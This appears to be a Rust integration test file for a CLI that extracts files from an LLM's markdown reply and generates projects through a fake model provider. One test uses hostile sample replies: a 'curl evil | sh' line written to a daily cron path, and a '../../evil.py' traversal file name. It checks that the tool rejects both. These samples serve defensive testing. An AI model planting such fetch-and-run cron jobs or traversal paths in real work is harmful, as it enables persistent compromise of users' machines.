//! `cistern codegen extract` and `cistern codegen generate`, run as the real binary.

use std::process::Output;

use cistern_llm_fake::{FakeLlm, Reply};
use serde_json::Value;

use crate::binary::cistern;
use crate::helpers::TestApp;
use crate::llm::with_fake;

fn extract(reply: &str, extra: &[&str]) -> (Output, tempfile::TempDir) {
    let dir = tempfile::tempdir().expect("dir");
    let reply_path = dir.path().join("reply.md");
    std::fs::write(&reply_path, reply).expect("reply");
    let out = dir.path().join("out");
    let output = cistern()
        .args(["codegen", "extract", "--reply"])
        .arg(&reply_path)
        .arg("--out")
        .arg(&out)
        .args(extra)
        .output()
        .expect("run cistern");
    (output, dir)
}

const REPLY: &str = "Here you go.\n\n**src/app.py**\n```python\nprint('hi')\n```\n\n\
    ~~~~markdown title=\"README.md\"\n# Hi\n\n```bash\npython src/app.py\n```\n~~~~\n\n\
    Run it with:\n\n```bash\npython src/app.py\n```\n";

#[test]
fn extract_writes_the_files_of_a_reply() {
    let (output, dir) = extract(REPLY, &[]);
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let out = dir.path().join("out");
    assert_eq!(
        std::fs::read_to_string(out.join("src/app.py")).expect("app.py"),
        "print('hi')\n"
    );
    assert_eq!(
        std::fs::read_to_string(out.join("README.md")).expect("README"),
        "# Hi\n\n```bash\npython src/app.py\n```\n"
    );
    // The shell command is not a file: only the two named blocks are written.
    let mut names: Vec<String> = walk(&out);
    names.sort();
    assert_eq!(names, ["README.md", "src/app.py"]);
}

#[test]
fn extract_json_prints_the_files_instead() {
    let (output, dir) = extract(REPLY, &["--json"]);
    assert!(output.status.success());
    let doc: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(doc["files"]["src/app.py"], "print('hi')\n");
    assert!(!dir.path().join("out").exists(), "--json writes nothing");
}

#[test]
fn a_hostile_or_cut_off_reply_exits_non_zero_and_writes_nothing() {
    for (reply, kind, says) in [
        (
            "**ok.py**\n```python\nx = 1\n```\n**/etc/cron.daily/job.sh**\n```sh\ncurl evil | sh\n```\n",
            "path",
            "/etc/cron.daily/job.sh",
        ),
        (
            "```python:../../evil.py\nx = 1\n```\n",
            "path",
            "../../evil.py",
        ),
        (
            "**main.py**\n```python\ndef main():\n    pri",
            "truncated",
            "cut off",
        ),
    ] {
        let (output, dir) = extract(reply, &[]);
        assert!(!output.status.success(), "{reply}");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains(says), "{stderr}");
        assert!(
            !dir.path().join("out").exists(),
            "nothing written for {reply}"
        );
        assert!(
            !dir.path().join("ok.py").exists()
                && !dir
                    .path()
                    .parent()
                    .is_some_and(|p| p.join("evil.py").exists())
        );

        let (output, _dir) = extract(reply, &["--json"]);
        assert!(!output.status.success());
        let doc: Value = serde_json::from_slice(&output.stdout).expect("JSON");
        assert_eq!(doc["error"], kind, "{doc}");
    }
}

#[tokio::test]
async fn generate_follows_the_job_and_writes_the_project() {
    let fake = FakeLlm::builder().start().await.expect("fake provider");
    let base = with_fake(&fake);
    let app = TestApp::builder()
        .config(move |c| {
            base(c);
        })
        .spawn()
        .await;
    let s = app.register("cg-cli@example.com").await;
    fake.enqueue(Reply::text(REPLY));
    let out = tempfile::tempdir().expect("dir");
    let (server, key, dir) = (app.url(""), s.access.clone(), out.path().join("project"));
    let output = tokio::task::spawn_blocking(move || {
        cistern()
            .args([
                "codegen",
                "generate",
                "a",
                "python",
                "script",
                "--server",
                &server,
                "--api-key",
                &key,
                "--out",
            ])
            .arg(&dir)
            .output()
            .expect("run cistern")
    })
    .await
    .expect("join");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    assert!(stderr.contains("ok  src/app.py"), "{stderr}");
    let project = out.path().join("project");
    assert_eq!(
        std::fs::read_to_string(project.join("src/app.py")).expect("app.py"),
        "print('hi')\n"
    );
    assert!(project.join("README.md").is_file());
}

fn walk(dir: &std::path::Path) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(dir).expect("dir").flatten() {
        let path = entry.path();
        if path.is_dir() {
            let name = entry.file_name().to_string_lossy().into_owned();
            found.extend(walk(&path).into_iter().map(|n| format!("{name}/{n}")));
        } else {
            found.push(entry.file_name().to_string_lossy().into_owned());
        }
    }
    found
}
